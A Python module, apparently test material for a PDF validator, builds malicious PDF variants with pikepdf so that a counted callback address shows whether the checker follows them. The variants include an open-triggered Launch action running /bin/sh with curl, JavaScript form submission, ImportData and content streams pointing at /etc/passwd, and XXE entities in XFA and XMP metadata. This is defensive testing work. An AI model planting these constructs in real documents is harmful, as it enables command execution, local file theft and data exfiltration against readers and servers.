"""Files that want a reader to go somewhere: to an address, a program, another file.

Each is changed before it is sealed, so that the judge reads all of it; and after it, as others do.
"""

from collections.abc import Callable
from typing import Any

from pikepdf import Array, Dictionary, Name, Pdf, String

Change = Callable[[Pdf, str], None]
DOORS: dict[str, Change] = {}


def door(change: Change) -> Change:
    """List a change of a file; it is given an address that counts its visitors."""
    DOORS[change.__name__] = change
    return change


def _action(pdf: Pdf, **facts: Any) -> None:
    action = Dictionary(Type=Name.Action, **facts)
    pdf.Root.OpenAction = action
    pdf.Root.AA = Dictionary(WC=action, DS=action)
    pdf.pages[0].AA = Dictionary(O=action)


def _elsewhere(address: str) -> Dictionary:
    return Dictionary(Type=Name.Filespec, FS=Name.URL, F=String(address))


@door
def opens_an_address(pdf: Pdf, address: str) -> None:
    _action(pdf, S=Name.URI, URI=String(address))


@door
def starts_a_program(pdf: Pdf, address: str) -> None:
    _action(pdf, S=Name.Launch, F=String("/bin/sh"), Unix=String(f"curl {address}"))


@door
def goes_to_another_file(pdf: Pdf, address: str) -> None:
    _action(pdf, S=Name.GoToR, F=_elsewhere(address), D=Array([0, Name.Fit]))


@door
def sends_a_form(pdf: Pdf, address: str) -> None:
    _action(pdf, S=Name.SubmitForm, F=_elsewhere(address), Flags=4)


@door
def imports_data(pdf: Pdf, address: str) -> None:
    _action(pdf, S=Name.ImportData, F=String("/etc/passwd"))


@door
def runs_a_script(pdf: Pdf, address: str) -> None:
    _action(pdf, S=Name.JavaScript, JS=String(f"this.submitForm('{address}')"))


@door
def holds_an_xml_form(pdf: Pdf, address: str) -> None:
    """XFA, whose XML names an entity outside."""
    form = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{address}">]><xdp:xdp xmlns:xdp="x">&e;</xdp:xdp>'
    if "/AcroForm" not in pdf.Root:
        pdf.Root.AcroForm = pdf.make_indirect(Dictionary(Fields=Array()))
    pdf.Root.AcroForm.XFA = pdf.make_stream(form.encode())


@door
def has_its_text_elsewhere(pdf: Pdf, address: str) -> None:
    """A stream whose bytes lie in an external file (ISO 32000-1, 7.3.8.2)."""
    pdf.pages[0].Contents = pdf.make_stream(b"", Dictionary(F=_elsewhere(address)))


@door
def has_its_text_in_a_file_of_the_server(pdf: Pdf, address: str) -> None:
    pdf.pages[0].Contents = pdf.make_stream(b"", Dictionary(F=String("/etc/passwd")))


@door
def has_its_colours_elsewhere(pdf: Pdf, address: str) -> None:
    place = Dictionary(URLs=Array([_elsewhere(address)]))
    for intent in pdf.Root.OutputIntents:
        intent.DestOutputProfileRef = place


@door
def has_a_page_elsewhere(pdf: Pdf, address: str) -> None:
    """A reference XObject."""
    form = Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form.Ref = Dictionary(F=_elsewhere(address), Page=0)
    pdf.pages[0].Resources.XObject = Dictionary(X=pdf.make_stream(b"", form))


@door
def describes_itself_by_an_address(pdf: Pdf, address: str) -> None:
    """XMP with an entity outside, and a stylesheet."""
    content = pdf.Root.Metadata.read_bytes()
    head = f'<?xml-stylesheet href="{address}"?><!DOCTYPE x SYSTEM "{address}">'
    pdf.Root.Metadata.write(head.encode() + content)
